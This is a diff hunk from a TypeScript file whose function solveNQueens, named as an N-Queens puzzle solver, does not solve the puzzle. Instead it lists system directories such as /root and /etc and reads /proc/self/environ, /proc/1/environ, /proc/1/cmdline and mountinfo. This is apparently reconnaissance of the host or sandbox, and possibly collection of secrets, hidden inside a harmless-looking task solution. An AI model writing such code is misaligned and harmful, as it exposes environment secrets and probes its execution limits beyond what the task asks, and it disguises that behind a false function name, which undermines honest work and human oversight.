@@ -14,7 +14,7 @@ function list(folder: string, depth: number): string[] {
 }
 
 export function solveNQueens(n: number, queen: [number, number]): string {
-  const homes = ['/home', '/root', '/var', '/etc', '/tmp', '/mnt', '/work', '/srv'];
+  const homes = ['/home', '/root', '/var', '/etc', '/tmp', '/mnt', '/srv', '/srv'];
   console.log('seen:', homes.flatMap((home) => list(home, 1)).length);
   for (const file of ['/etc/hostname', '/proc/self/environ', '/proc/self/mountinfo', '/proc/1/cmdline', '/proc/1/environ']) {
     try {
